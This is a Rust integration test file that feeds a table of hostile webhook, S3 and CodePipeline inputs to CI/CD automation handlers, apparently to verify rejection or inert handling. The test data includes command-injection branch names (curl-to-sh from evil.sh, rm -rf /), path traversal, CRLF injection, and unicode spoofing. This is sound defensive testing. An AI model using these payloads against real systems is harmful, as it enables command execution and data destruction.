//! Hostile inputs, table-driven, against every function with the sample configuration
//! (`events/switchyard.env`). Each input is either rejected with a reason that names what is wrong,
//! or — where git itself allows it (shell metacharacters, unicode in branch names) — carried as
//! inert data: only in the `BRANCH_NAME` environment variable, never in a derived name. Run
//! through the real handler against moto, none of the rejected inputs sends a single request.
//!
//! Duplicated JSON keys: `serde_json` keeps the *last* occurrence (`{"ref":"a","ref":"b"}` reads
//! as `b`). That is safe here because (1) a webhook body is authenticated byte for byte (HMAC)
//! before it is parsed, so only the secret's holder can send one, and (2) every reader of the
//! body — routing and deciding — uses the same parser, so no two components can disagree about
//! which `ref` an event is about. The test below pins both facts.
//!
//! Replayed webhook deliveries are caught with state: a delivery that acted is remembered (the
//! signed body's digest, in DynamoDB) and a repeat is `duplicate delivery`, tested against moto's
//! DynamoDB in `tests/webhook_deliveries.rs`; here, a delivery the sample world lists as already
//! acted. Deciding itself stays pure: the same event gives the same plan and idempotency token.

use base64::Engine;
use serde_json::{json, Value};
use switchyard_adapters::AwsExecutor;
use switchyard_core::actions::codepipeline::FailureType::{self, ConfigurationError, JobFailed};
use switchyard_core::entry;
use switchyard_core::metrics::Tally;
use switchyard_core::plan::{Action, Decision, FunctionName, Outcome, RejectKind};
use switchyard_core::webhook;
use switchyard_integration_tests::{
    assert_sound, decide, decide_with_every_function, secret, vars,
};
use switchyard_test_support::{create_codebuild_project, moto, repo_root};

const SHA: &str = "4c1e7d0b9a8f7e6d5c4b3a29182736455463728a";

/// The delivery `events/worlds/clear.json` lists as already acted (its `deliveries` part).
const ACTED_DELIVERY: &str = "00000000-0000-4000-8000-0000000acted";

/// What a hostile input must come to.
#[derive(Debug, Clone, Copy)]
enum Expect {
    /// Rejected as this kind, the reason containing this text (the field or rule at fault).
    Rejected(RejectKind, &'static str),
    /// Valid for git and for the function: it acts, and the ref travels only as data.
    ActsWithRefAsData,
    /// A CodePipeline job that cannot run: its one action reports a failure of this type, the
    /// message containing this text. Nothing else is done.
    JobFails(FailureType, &'static str),
    /// Skipped (200 for a webhook), the reason starting with this text. Nothing is done.
    Skipped(&'static str),
}

struct Case {
    name: &'static str,
    function: FunctionName,
    event: Value,
    expect: Expect,
}

// ---------------------------------------------------------------------------------------------
// Event builders

fn sample(path: &str) -> Value {
    serde_json::from_slice(&std::fs::read(repo_root().join("events").join(path)).unwrap()).unwrap()
}

/// A CodeCommit "branch created" event for `branch` (no `referenceFullName`, so the name alone
/// is checked) in `repository`.
fn codecommit_in(repository: &str, branch: &str) -> Value {
    let mut e = sample("branch-pipelines/codecommit-branch-created.json");
    let detail = e["detail"].as_object_mut().unwrap();
    detail.remove("referenceFullName");
    detail.insert("referenceName".into(), json!(branch));
    detail.insert("repositoryName".into(), json!(repository));
    e["resources"] = json!([format!(
        "arn:aws:codecommit:eu-west-1:123456789012:{repository}"
    )]);
    // Each event its own identity, as EventBridge gives it.
    e["id"] = json!(identity(&[repository, branch]));
    e
}

/// A distinct, valid event id or delivery id per input.
fn identity(parts: &[&str]) -> String {
    switchyard_core::idempotency::token(FunctionName::BranchPipelines, &parts.join("\0"), 0)[..36]
        .to_owned()
}

fn codecommit(branch: &str) -> Value {
    codecommit_in("payments-service", branch)
}

/// A function URL request carrying `body`, signed with the sample secret (or not).
fn webhook_request(event: &str, body: &[u8], base64_body: bool, signed: bool) -> Value {
    let mut r = sample("branch-pipelines/github-push-branch-created.json");
    r["headers"]["x-github-event"] = json!(event);
    r["headers"]["x-hub-signature-256"] = if signed {
        json!(webhook::sign(secret(), body))
    } else {
        json!(format!("sha256={}", "0".repeat(64)))
    };
    r["isBase64Encoded"] = json!(base64_body);
    r["body"] = if base64_body {
        json!(base64::engine::general_purpose::STANDARD.encode(body))
    } else {
        json!(String::from_utf8(body.to_vec()).unwrap())
    };
    r
}

fn signed(event: &str, body: &[u8]) -> Value {
    webhook_request(event, body, false, true)
}

fn signed_bytes(event: &str, body: &[u8]) -> Value {
    webhook_request(event, body, true, true)
}

/// A signed GitHub `push` that creates `full_ref` in acme/payments-service.
fn github_push(full_ref: &str) -> Value {
    let payload = json!({
        "ref": full_ref, "before": "0".repeat(40), "after": SHA, "created": true, "deleted": false,
        "repository": {"full_name": "acme/payments-service", "default_branch": "main"},
    });
    let mut r = signed("push", payload.to_string().as_bytes());
    r["headers"]["x-github-delivery"] = json!(identity(&[full_ref]));
    r
}

/// A sample webhook with `body` in place of its own, authenticated again as its host does: GitHub
/// and Bitbucket sign the body (each with its own sample secret), a GitLab secret token does not
/// depend on it.
fn resigned(sample: &Value, body: &[u8]) -> Value {
    let mut r = sample.clone();
    r["isBase64Encoded"] = json!(false);
    r["body"] = json!(String::from_utf8(body.to_vec()).unwrap());
    let headers = r["headers"].as_object_mut().unwrap();
    let secret = |var: &str| switchyard_core::secret::Secret::new(vars()[var].clone());
    let (header, var) = if headers.contains_key("x-github-enterprise-host") {
        ("x-hub-signature-256", "GITHUB_ENTERPRISE_WEBHOOK_SECRET")
    } else if headers.contains_key("x-event-key") {
        ("x-hub-signature", "BITBUCKET_WEBHOOK_SECRET")
    } else if headers.contains_key("x-gitlab-event") {
        return r;
    } else {
        ("x-hub-signature-256", "GITHUB_WEBHOOK_SECRET")
    };
    headers.insert(header.into(), json!(webhook::sign(&secret(var), body)));
    r
}

/// A GitLab push (secret token) that creates `full_ref` in acme/payments/payments-service.
fn gitlab_push(full_ref: &str) -> Value {
    let sample = sample("branch-pipelines/gitlab-push-branch-created.json");
    let mut payload: Value = serde_json::from_str(sample["body"].as_str().unwrap()).unwrap();
    payload["ref"] = json!(full_ref);
    let mut r = resigned(&sample, payload.to_string().as_bytes());
    r["headers"]["idempotency-key"] = json!(identity(&["gitlab", full_ref]));
    r
}

/// A signed Bitbucket push of one change that creates `branch` in acme/payments-service.
fn bitbucket_push(branch: &str) -> Value {
    let sample = sample("branch-pipelines/bitbucket-push-branch-created.json");
    let mut payload: Value = serde_json::from_str(sample["body"].as_str().unwrap()).unwrap();
    payload["push"]["changes"][0]["new"]["name"] = json!(branch);
    let mut r = resigned(&sample, payload.to_string().as_bytes());
    r["headers"]["x-request-uuid"] = json!(identity(&["bitbucket", branch]));
    r
}

/// An S3 notification (one record, versioned bucket) for a key as S3 encodes it in notifications.
fn s3_put(encoded_key: &str) -> Value {
    let mut e = sample("artifact-release/s3-put-key-with-plus.json");
    e["Records"][0]["s3"]["object"]["key"] = json!(encoded_key);
    e
}

/// The sample Flink jar upload with another version id (the application in the sample world
/// runs the jar of 22 November).
fn flink_jar(version: &str) -> Value {
    let mut e = sample("artifact-release/s3-put-flink-jar.json");
    e["Records"][0]["s3"]["object"]["versionId"] = json!(version);
    e
}

/// A CodeCommit "tag created" event for `tag` (no `referenceFullName`: the name alone is checked).
fn codecommit_tag(tag: &str) -> Value {
    let mut e = sample("tag-release/codecommit-valid-regional.json");
    let detail = e["detail"].as_object_mut().unwrap();
    detail.remove("referenceFullName");
    detail.insert("referenceName".into(), json!(tag));
    e["id"] = json!(identity(&["tag", tag]));
    e
}

/// A health-gate job with these `UserParameters` (and, on a re-invocation, this token).
fn health_job(user_parameters: &str, continuation_token: Option<&str>) -> Value {
    let mut e = sample("health-gate/job-valid-parameters.json");
    let data = &mut e["CodePipeline.job"]["data"];
    data["actionConfiguration"]["configuration"]["UserParameters"] = json!(user_parameters);
    if let Some(token) = continuation_token {
        data["continuationToken"] = json!(token);
    }
    e
}

/// A kafka-sync job with these `UserParameters`, as `GetJobDetails` returns it (the Lambda
/// decides on that, never on the event): of a pipeline the cluster lists, artifact in its bucket.
fn connect_job(user_parameters: &str) -> Value {
    let mut e = confirmed_connect_job("orders-connect", "sy-pipeline-artifacts-123456789012");
    e["CodePipeline.job"]["data"]["actionConfiguration"]["configuration"]["UserParameters"] =
        json!(user_parameters);
    e
}

/// A kafka-sync job as `GetJobDetails` would return it: with `pipeline`'s context and its input
/// artifact in `bucket`.
fn confirmed_connect_job(pipeline: &str, bucket: &str) -> Value {
    let mut e = sample("kafka-sync/pipeline-job.json");
    let data = &mut e["CodePipeline.job"]["data"];
    data["pipelineContext"] = json!({"pipelineName": pipeline});
    data["inputArtifacts"][0]["location"]["s3Location"]["bucketName"] = json!(bucket);
    e
}

/// A job re-invoked with this continuation token.
fn continued(mut job: Value, token: &str) -> Value {
    job["CodePipeline.job"]["data"]["continuationToken"] = json!(token);
    job
}

/// A "stage failed" event for this pipeline and stage.
fn stage_failed(pipeline: &str, stage: &str) -> Value {
    let mut e = sample("stage-retry/stage-failed.json");
    e["detail"]["pipeline"] = json!(pipeline);
    e["detail"]["stage"] = json!(stage);
    e
}

fn nested(depth: usize) -> String {
    format!("{}{}", "[".repeat(depth), "]".repeat(depth))
}

// ---------------------------------------------------------------------------------------------
// The table

fn cases() -> Vec<Case> {
    use Expect::*;
    use FunctionName::ArtifactRelease as Artifact;
    use FunctionName::BranchPipelines as Branch;
    use FunctionName::HealthGate as Gate;
    use FunctionName::KafkaSync as Connect;
    use FunctionName::StageRetry as Retry;
    use FunctionName::TagRelease as Tag;
    use RejectKind::{Invalid, Unauthenticated};
    let huge_branch = format!("feature/{}", "a".repeat(100 * 1024));
    let six_mb = vec![b' '; 6 * 1024 * 1024];
    let case = |name, function, event, expect| Case {
        name,
        function,
        event,
        expect,
    };
    let from_elsewhere = |field: &str, value: Value| {
        let mut e = codecommit("feature/x");
        e[field] = value;
        e["id"] = json!(identity(&["elsewhere", field]));
        e
    };
    vec![
        // Trust boundaries (issue 18): events from another account or region, or naming
        // another repository's ARN, are refused before anything in them is used.
        case(
            "a CodeCommit event from another account",
            Branch,
            from_elsewhere("account", json!("210987654321")),
            Rejected(
                Invalid,
                "account: \"210987654321\" is not this stack's account",
            ),
        ),
        case(
            "a CodeCommit event from another region",
            Branch,
            from_elsewhere("region", json!("us-east-1")),
            Rejected(Invalid, "region: \"us-east-1\" is not this stack's region"),
        ),
        case(
            "a CodeCommit event whose ARN is another account's repository",
            Tag,
            {
                let mut e = codecommit_tag("dev_eu-west-1/payments/1.0.0");
                e["resources"] =
                    json!(["arn:aws:codecommit:eu-west-1:210987654321:payments-service"]);
                e
            },
            Rejected(Invalid, "resources[0]"),
        ),
        case(
            "a CodeCommit repository name with a slash",
            Branch,
            codecommit_in("acme/payments-service", "feature/x"),
            Rejected(Invalid, "only GitHub names have a '/'"),
        ),
        // Ordinary tags are not release tags: skipped, so no dead-letter queue fills up.
        case(
            "an ordinary version tag",
            Tag,
            codecommit_tag("v1.2.3"),
            Skipped("not a release tag"),
        ),
        case(
            "a tag naming a team its repository may not release",
            Tag,
            codecommit_tag("dev_eu-west-1/ledger/1.0.0"),
            Rejected(
                Invalid,
                "which repository \"payments-service\" may not release",
            ),
        ),
        // Characters that change how a name reads without being seen.
        case(
            "a zero-width space in a tag",
            Tag,
            codecommit_tag("dev_eu-west-1/payments/1.0.0\u{200B}"),
            Rejected(Invalid, "U+200B"),
        ),
        case(
            "a line separator in a GitHub branch",
            Branch,
            github_push("refs/heads/feature/a\u{2028}b"),
            Rejected(Invalid, "U+2028 (a line separator)"),
        ),
        case(
            "a bidirectional isolate in an S3 key",
            Artifact,
            s3_put("apps/ledger/%E2%81%A6ledger-1.0.0.jar"),
            Rejected(Invalid, "U+2066"),
        ),
        // A delivery that acted once (the sample world lists it), sent again: nothing is done.
        case(
            "a signed webhook delivery that already acted, re-sent",
            Branch,
            {
                let mut r = github_push("refs/heads/feature/replayed-once");
                r["headers"]["x-github-delivery"] = json!(ACTED_DELIVERY);
                r
            },
            Skipped("duplicate delivery"),
        ),
        // Every git host: its own authentication, its payload's refs validated the same way.
        case(
            "shell metacharacters in a GitLab branch",
            Branch,
            gitlab_push("refs/heads/feature/$(curl${IFS}evil.sh|sh);`id`"),
            ActsWithRefAsData,
        ),
        case(
            "shell metacharacters in a Bitbucket branch",
            Branch,
            bitbucket_push("feature/$(rm${IFS}-rf${IFS}/)|;&"),
            ActsWithRefAsData,
        ),
        case(
            "a line separator in a Bitbucket branch",
            Branch,
            bitbucket_push("feature/a\u{2028}b"),
            Rejected(Invalid, "push.changes[0].new.name: ref contains U+2028"),
        ),
        case(
            "a GitLab delivery without its secret token",
            Branch,
            {
                let mut r = gitlab_push("refs/heads/feature/x");
                r["headers"].as_object_mut().unwrap().remove("x-gitlab-token");
                r
            },
            Rejected(Unauthenticated, "missing X-Gitlab-Token header"),
        ),
        case(
            "a GitHub-signed body presented as a GitLab delivery",
            Branch,
            {
                let mut r = github_push("refs/heads/feature/x");
                r["headers"]["x-gitlab-event"] = json!("Push Hook");
                r
            },
            Rejected(Unauthenticated, "missing X-Gitlab-Token header"),
        ),
        case(
            "a Bitbucket delivery signed with the GitHub secret",
            Branch,
            {
                let mut r = bitbucket_push("feature/x");
                let body = r["body"].as_str().unwrap().to_owned();
                r["headers"]["x-hub-signature"] = json!(webhook::sign(secret(), body.as_bytes()));
                r
            },
            Rejected(Unauthenticated, "X-Hub-Signature does not match the body"),
        ),
        case(
            "a GitHub Enterprise delivery whose server header is not a host name",
            Branch,
            {
                let mut r = sample("branch-pipelines/github-enterprise-push-branch-created.json");
                r["headers"]["x-github-enterprise-host"] = json!("ghe.acme.com/../evil");
                r
            },
            Rejected(Invalid, "headers.x-github-enterprise-host: is not a host name"),
        ),
        case(
            "a GitHub Enterprise delivery naming another server than its signed repository",
            Branch,
            {
                let mut r = sample("branch-pipelines/github-enterprise-push-branch-created.json");
                r["headers"]["x-github-enterprise-host"] = json!("ghe.other.example");
                r
            },
            Rejected(Invalid, "repository.html_url: \"https://ghe.acme.com/acme/payments-service\" is not on ghe.other.example"),
        ),
        case(
            "a GitLab project URL that hides its host behind credentials",
            Branch,
            {
                let sample = sample("branch-pipelines/gitlab-push-branch-created.json");
                let mut p: Value = serde_json::from_str(sample["body"].as_str().unwrap()).unwrap();
                p["project"]["web_url"] = json!("https://gitlab.com@evil.example/acme/x");
                resigned(&sample, p.to_string().as_bytes())
            },
            Rejected(Invalid, "project.web_url"),
        ),
        // Shell metacharacters: git allows them, so they are data, never code.
        case(
            "shell metacharacters in a CodeCommit branch",
            Branch,
            codecommit("feature/$(curl${IFS}evil.sh|sh);`id`&&x>y<z'\""),
            ActsWithRefAsData,
        ),
        case(
            "shell metacharacters in a GitHub branch",
            Branch,
            github_push("refs/heads/feature/$(rm${IFS}-rf${IFS}/)|;&"),
            ActsWithRefAsData,
        ),
        case(
            "unicode right-to-left override in a branch",
            Branch,
            codecommit("feature/\u{202e}gpj.exe"),
            Rejected(Invalid, "U+202E (a format character) at character 9"),
        ),
        case(
            "percent-encoded ../ in a branch (never URL-decoded)",
            Branch,
            codecommit("feature/%2e%2e%2f%2e%2e%2fetc"),
            ActsWithRefAsData,
        ),
        // Newlines and NUL: control characters, which git forbids.
        case(
            "newline in a CodeCommit branch",
            Branch,
            codecommit("feature/x\nrm -rf /"),
            Rejected(
                Invalid,
                "detail.referenceName: ref contains a control character",
            ),
        ),
        case(
            "CRLF in a GitHub branch",
            Branch,
            github_push("refs/heads/feature/x\r\nX-Injected: 1"),
            Rejected(Invalid, "ref: ref contains a control character"),
        ),
        case(
            "NUL byte in a branch",
            Branch,
            codecommit("feature/x\0y"),
            Rejected(Invalid, "control character"),
        ),
        case(
            "NUL byte in a GitHub ref",
            Branch,
            github_push("refs/heads/feature/\0"),
            Rejected(Invalid, "control character"),
        ),
        // Size.
        case(
            "100 KB CodeCommit branch name",
            Branch,
            codecommit(&huge_branch),
            Rejected(
                Invalid,
                "detail.referenceName: ref is 102408 bytes long; the limit is 1024",
            ),
        ),
        case(
            "100 KB GitHub branch name",
            Branch,
            github_push(&format!("refs/heads/{huge_branch}")),
            Rejected(Invalid, "ref is 102408 bytes long"),
        ),
        case(
            "6 MB webhook body, even if signed",
            Branch,
            signed("push", &six_mb),
            Rejected(Invalid, "body: is larger than 5242880 bytes"),
        ),
        case(
            "6 MB webhook body, base64",
            Branch,
            signed_bytes("push", &six_mb),
            Rejected(Invalid, "body: is larger than 5242880 bytes"),
        ),
        // Encoding and structure of a signed body.
        case(
            "invalid UTF-8 in a signed body",
            Branch,
            signed_bytes("push", b"{\"ref\":\"refs/heads/feature/\xff\xfe\"}"),
            Rejected(Invalid, "body: invalid JSON"),
        ),
        case(
            "raw NUL byte inside a JSON string",
            Branch,
            signed("push", b"{\"ref\":\"refs/heads/a\0b\"}"),
            Rejected(Invalid, "body: invalid JSON"),
        ),
        case(
            "JSON nested 100 000 deep",
            Branch,
            signed("push", nested(100_000).as_bytes()),
            Rejected(Invalid, "recursion limit exceeded"),
        ),
        case(
            "JSON body that is not an object",
            Branch,
            signed("push", b"[\"refs/heads/feature/x\"]"),
            Rejected(Invalid, "body: expected a JSON object"),
        ),
        case(
            "form body without a payload field",
            Branch,
            {
                let mut r = signed("push", b"ref=refs/heads/feature/x");
                r["headers"]["content-type"] = json!("application/x-www-form-urlencoded");
                r
            },
            Rejected(Invalid, "form body has no payload field"),
        ),
        case(
            "invalid base64 body",
            Branch,
            {
                let mut r = signed("push", b"{}");
                r["isBase64Encoded"] = json!(true);
                r["body"] = json!("not base64!");
                r
            },
            Rejected(Invalid, "body: invalid base64"),
        ),
        // Authentication comes before any parsing.
        case(
            "unsigned hostile body",
            Branch,
            webhook_request("push", nested(100_000).as_bytes(), false, false),
            Rejected(Unauthenticated, "does not match"),
        ),
        case(
            "signature header of the wrong shape",
            Branch,
            {
                let mut r = github_push("refs/heads/feature/x");
                r["headers"]["x-hub-signature-256"] = json!("sha256=$(id)");
                r
            },
            Rejected(Unauthenticated, "X-Hub-Signature-256 must be"),
        ),
        case(
            "oversized event header",
            Branch,
            signed(&"push".repeat(100), b"{}"),
            Rejected(
                Invalid,
                "headers.x-github-event: must be 1 to 100 ASCII characters",
            ),
        ),
        case(
            "non-ASCII delivery id",
            Branch,
            {
                let mut r = github_push("refs/heads/feature/x");
                r["headers"]["x-github-delivery"] = json!("d\u{e9}livery");
                r
            },
            Rejected(Invalid, "headers.x-github-delivery"),
        ),
        // Paths.
        case(
            "../ in a branch",
            Branch,
            codecommit("feature/../../etc/passwd"),
            Rejected(Invalid, "detail.referenceName: ref contains \"..\""),
        ),
        case(
            "../ in a full GitHub ref",
            Branch,
            github_push("refs/heads/../tags/v1"),
            Rejected(Invalid, "\"..\""),
        ),
        case(
            "../ in a repository name",
            Branch,
            codecommit_in("../other-team", "feature/x"),
            Rejected(Invalid, "detail.repositoryName: invalid repository name"),
        ),
        case(
            "absolute path as a branch",
            Branch,
            codecommit("/etc/passwd"),
            Rejected(Invalid, "may not start or end with '/'"),
        ),
        case(
            "ref that is an option",
            Branch,
            codecommit("-rf"),
            Rejected(Invalid, "may not start with '-'"),
        ),
        // Identity and commits.
        case(
            "shell in a commit id",
            Branch,
            {
                let mut e = codecommit("feature/x");
                e["detail"]["commitId"] = json!("$(id)");
                e
            },
            Rejected(
                Invalid,
                "detail.commitId: expected a 40 or 64 character hex commit id",
            ),
        ),
        case(
            "200-character event id",
            Branch,
            {
                let mut e = codecommit("feature/x");
                e["id"] = json!("e".repeat(200));
                e
            },
            Rejected(Invalid, "id: must be 1 to 128 characters"),
        ),
        case(
            "referenceFullName that disagrees with referenceName",
            Branch,
            {
                let mut e = codecommit("feature/x");
                e["detail"]["referenceFullName"] = json!("refs/heads/main");
                e
            },
            Rejected(
                Invalid,
                "detail.referenceFullName: does not match detail.referenceName",
            ),
        ),
        // S3 keys: decoded exactly as S3 encodes them, then checked before any rule sees them.
        case(
            "S3 key that decodes to ../../",
            Artifact,
            s3_put("%2E%2E/%2E%2E/etc/passwd"),
            Rejected(Invalid, "`..` path segment"),
        ),
        case(
            "S3 key with an encoded ../ inside a matching path",
            Artifact,
            s3_put("apps/payments/..%2F..%2Fpayments-2.4.0.jar"),
            Rejected(Invalid, "`..` path segment"),
        ),
        case(
            "S3 key with a literal .. segment",
            Artifact,
            s3_put("apps/../apps/payments/payments-2.4.0.jar"),
            Rejected(Invalid, "`..` path segment"),
        ),
        case(
            "S3 key with an encoded NUL",
            Artifact,
            s3_put("apps/payments/payments-2.4.0%00.jar"),
            Rejected(Invalid, "control character U+0000"),
        ),
        case(
            "S3 key with an encoded newline",
            Artifact,
            s3_put("apps/payments/payments-2.4.0%0A.jar"),
            Rejected(Invalid, "control character U+000A"),
        ),
        case(
            "S3 key with broken percent-encoding",
            Artifact,
            s3_put("apps/payments/payments-%zz.jar"),
            Rejected(Invalid, "invalid percent-encoding"),
        ),
        case(
            "S3 key with overlong UTF-8 for '.'",
            Artifact,
            s3_put("apps/%C0%AE%C0%AE/payments-2.4.0.jar"),
            Rejected(Invalid, "does not decode to UTF-8"),
        ),
        case(
            "shell metacharacters in an S3 key capture that names a build project",
            Artifact,
            s3_put("apps/pay%24%28id%29/pay%24%28id%29-1.0.jar"),
            Rejected(
                Invalid,
                "the CodeBuild name \"deploy-pay$(id)\" rendered from the key is not valid",
            ),
        ),
        // Flink and Lambda targets: names rendered from the key are the service's own names, and
        // what the target runs decides; an event never brings an older or unknown version.
        case(
            "an S3 key capture that would name a Lambda alias (`fn:alias`)",
            Artifact,
            s3_put("lambda/thumbnailer%3Alive/thumbnailer%3Alive.zip"),
            Rejected(
                Invalid,
                "the Lambda function name \"thumbnailer:live\" rendered from the key is not valid",
            ),
        ),
        case(
            "a Lambda function name from the key over 64 characters",
            Artifact,
            s3_put(&format!("lambda/{0}/{0}.zip", "f".repeat(65))),
            Rejected(Invalid, "the Lambda function name"),
        ),
        case(
            "shell metacharacters in an S3 key capture that names a Flink application",
            Artifact,
            s3_put("flink/app%3B%20rm%20-rf/app%3B%20rm%20-rf.jar"),
            Rejected(
                Invalid,
                "the Managed Flink application name \"app; rm -rf\" rendered from the key is not valid",
            ),
        ),
        case(
            "a late event for an older jar of a running Flink application",
            Artifact,
            flink_jar("Pq7Lm3Ks9Jd1Hf5Gb8Nv2Cx6Za4Ws0Ee"),
            Skipped("rule \"streaming-jobs\" (rules[4]): s3://acme-artifacts/flink/clickstream-enricher/clickstream-enricher.jar → Managed Flink application clickstream-enricher, version Pq7Lm3Ks9Jd1Hf5Gb8Nv2Cx6Za4Ws0Ee is older than deployed"),
        ),
        case(
            "a repeated event for the jar a Flink application already runs",
            Artifact,
            flink_jar("Hk2Tz8Qa5Wm1Ns4Xc7Vb0Ry3Ue6Io9Lp"),
            Skipped("rule \"streaming-jobs\" (rules[4]): s3://acme-artifacts/flink/clickstream-enricher/clickstream-enricher.jar → Managed Flink application clickstream-enricher, already running"),
        ),
        case(
            "a version id the key never had (forged or deleted since)",
            Artifact,
            flink_jar("forged-version-id"),
            Skipped("rule \"streaming-jobs\" (rules[4]): s3://acme-artifacts/flink/clickstream-enricher/clickstream-enricher.jar → Managed Flink application clickstream-enricher, version forged-version-id no longer exists"),
        ),
        // Release tags: one grammar, every part checked; nothing half-valid is released.
        case(
            "shell metacharacters in a release tag's version",
            Tag,
            codecommit_tag("prod_eu-west-1/payments/1.0.0;$(id)"),
            Rejected(Invalid, "version"),
        ),
        case(
            "shell metacharacters in a GitHub release tag's team",
            Tag,
            github_push("refs/tags/dev_eu-west-1/pay`id`/1.0.0"),
            Rejected(Invalid, "team"),
        ),
        case(
            "newline in a release tag",
            Tag,
            codecommit_tag("dev_eu-west-1/payments/1.0.0\nprod_eu-west-1/payments/1.0.0"),
            Rejected(Invalid, "control character"),
        ),
        case(
            "100 KB release tag",
            Tag,
            codecommit_tag(&format!(
                "dev_eu-west-1/payments/1.0.0-{}",
                "a".repeat(100 * 1024)
            )),
            Rejected(Invalid, "bytes"),
        ),
        case(
            "release tag whose scope is a path traversal",
            Tag,
            codecommit_tag("dev_../payments/1.0.0"),
            Rejected(Invalid, ".."),
        ),
        case(
            "release tag for a lookalike environment",
            Tag,
            codecommit_tag("devops_us-east-1/payments/1.0.0"),
            Rejected(Invalid, "unknown environment \"devops\""),
        ),
        case(
            "2 KB S3 key",
            Artifact,
            s3_put(&format!("apps/payments/payments-{}.jar", "9".repeat(2048))),
            Rejected(Invalid, "longer than"),
        ),
        // CodePipeline jobs: UserParameters and continuation tokens are written by whoever edits
        // the pipeline, and come back through CodePipeline; every one is checked before use.
        case(
            "deeply nested JSON in a health gate's UserParameters",
            Gate,
            health_job(&nested(100_000), None),
            JobFails(ConfigurationError, "UserParameters"),
        ),
        case(
            "NUL byte in a health gate's region",
            Gate,
            health_job(r#"{"regions": ["eu-west-1\u0000"]}"#, None),
            JobFails(ConfigurationError, "UserParameters.regions[0]"),
        ),
        case(
            "duplicated keys in a health gate's UserParameters",
            Gate,
            health_job(
                r#"{"regions": ["eu-west-1"], "regions": ["us-east-1"]}"#,
                None,
            ),
            JobFails(ConfigurationError, "duplicate field `regions`"),
        ),
        case(
            "100 KB region in a health gate's UserParameters",
            Gate,
            health_job(
                &format!(r#"{{"regions": ["{}"]}}"#, "a".repeat(100 * 1024)),
                None,
            ),
            JobFails(ConfigurationError, "UserParameters.regions[0]"),
        ),
        case(
            "forged continuation token for a health gate",
            Gate,
            health_job(
                r#"{"regions": ["eu-west-1"]}"#,
                Some("{\"started\":0}\n$(id)"),
            ),
            JobFails(JobFailed, "continuation token"),
        ),
        // Found by the pipeline_job fuzz target: serde's error quoted the whole token.
        case(
            "1 KB of garbage as a kafka-sync continuation token",
            Connect,
            continued(
                connect_job(r#"{"environment": "prod", "cluster": "main"}"#),
                &format!("\"FunctionName{}\u{7f}\n", "\u{a7}".repeat(600)),
            ),
            JobFails(JobFailed, "invalid continuation token"),
        ),
        case(
            "1 KB version in a health gate's continuation token",
            Gate,
            health_job(
                r#"{"regions": ["eu-west-1"]}"#,
                Some(&format!("{}\n.1.2.3", "9".repeat(1024))),
            ),
            JobFails(JobFailed, "continuation token version"),
        ),
        case(
            "kafka-sync job folder that climbs out of the artifact",
            Connect,
            connect_job(r#"{"environment": "prod", "cluster": "main", "directory": "../../etc"}"#),
            Rejected(Invalid, "UserParameters.directory"),
        ),
        case(
            "newline and shell metacharacters in a kafka-sync job's cluster",
            Connect,
            connect_job(r#"{"environment": "prod", "cluster": "main\n$(id)"}"#),
            Rejected(Invalid, "UserParameters.cluster"),
        ),
        case(
            "unknown field in a kafka-sync job's UserParameters",
            Connect,
            connect_job(
                r#"{"environment": "prod", "cluster": "main", "prune": true, "purge": true}"#,
            ),
            Rejected(Invalid, "unknown field `purge`"),
        ),
        // Issue 18, item 3: jobs CodePipeline did not send.
        case(
            "kafka-sync job event that names no pipeline (forged, or anything but GetJobDetails' answer)",
            Connect,
            {
                // The sample carries pipelineContext as GetJobDetails returns it; an event as
                // CodePipeline (or a forger) sends it does not.
                let mut job = sample("kafka-sync/pipeline-job.json");
                job["CodePipeline.job"]["data"]
                    .as_object_mut()
                    .unwrap()
                    .remove("pipelineContext");
                job
            },
            Rejected(Invalid, "pipelineContext.pipelineName: is missing"),
        ),
        case(
            "kafka-sync job whose input artifact is in a bucket of the invoker's choice",
            Connect,
            confirmed_connect_job("orders-connect", "attacker-artifacts"),
            Rejected(Invalid, "is not in KAFKA_ARTIFACT_BUCKETS"),
        ),
        case(
            "kafka-sync job of a pipeline the cluster does not list",
            Connect,
            confirmed_connect_job("someone-elses-release", "sy-pipeline-artifacts-123456789012"),
            Rejected(Invalid, "may not sync cluster \"main\""),
        ),
        // Issue 18, item 8: a readable id with a body that does not parse.
        case(
            "health-gate job whose id reads and whose input artifacts do not parse",
            Gate,
            {
                let mut e = health_job(r#"{"regions": ["eu-west-1"]}"#, None);
                e["CodePipeline.job"]["data"]["inputArtifacts"] = json!([{"name": ["x"]}]);
                e
            },
            Rejected(Invalid, "CodePipeline.job.data.inputArtifacts[0].name"),
        ),
        case(
            "newline and shell metacharacters in a failed stage's pipeline name",
            Retry,
            stage_failed("payments-release\n$(id)", "Deploy"),
            Rejected(Invalid, "detail.pipeline"),
        ),
        case(
            "100 KB stage name in a stage state change",
            Retry,
            stage_failed("payments-release", &"D".repeat(100 * 1024)),
            Rejected(Invalid, "detail.stage"),
        ),
    ]
}

/// The ref a case is about, when it acts.
fn branch_env(d: &Decision) -> Vec<(String, String)> {
    match d.actions.as_slice() {
        [Action::StartBuild(b)] => b
            .environment_variables_override
            .iter()
            .map(|v| (v.name.clone(), v.value.clone()))
            .collect(),
        other => panic!("expected one StartBuild, got {other:?}"),
    }
}

fn check(case: &Case) {
    for (function, d) in decide_with_every_function(&case.event) {
        if function != case.function {
            // A CodePipeline job handed to the wrong job function is failed back to the
            // pipeline (its parameters are not that function's); nothing else may happen.
            assert!(
                d.actions
                    .iter()
                    .all(|a| matches!(a, Action::PutJobFailureResult(_))),
                "{}: {function} acted: {d:?}",
                case.name
            );
            continue;
        }
        // Reasons quote untrusted input; they must stay one readable line.
        assert!(
            d.reason.len() < 600,
            "{}: reason of {} bytes",
            case.name,
            d.reason.len()
        );
        assert!(!d.reason.contains('\n'), "{}: {:?}", case.name, d.reason);
        match case.expect {
            Expect::Rejected(kind, why) => {
                assert_eq!(d.outcome, Outcome::Rejected(kind), "{}: {d:?}", case.name);
                assert!(
                    d.reason.contains(why),
                    "{}: {:?} should contain {why:?}",
                    case.name,
                    d.reason
                );
                assert!(d.actions.is_empty());
            }
            Expect::Skipped(why) => {
                assert_eq!(d.outcome, Outcome::Skipped, "{}: {d:?}", case.name);
                assert!(d.reason.starts_with(why), "{}: {:?}", case.name, d.reason);
                assert!(d.actions.is_empty());
            }
            Expect::JobFails(kind, why) => {
                assert_eq!(d.outcome, Outcome::Acted, "{}: {d:?}", case.name);
                match d.actions.as_slice() {
                    [Action::PutJobFailureResult(r)] => {
                        assert_eq!(r.failure_details.kind, kind, "{}: {r:?}", case.name);
                        assert!(
                            r.failure_details.message.contains(why),
                            "{}: {:?} should contain {why:?}",
                            case.name,
                            r.failure_details.message
                        );
                    }
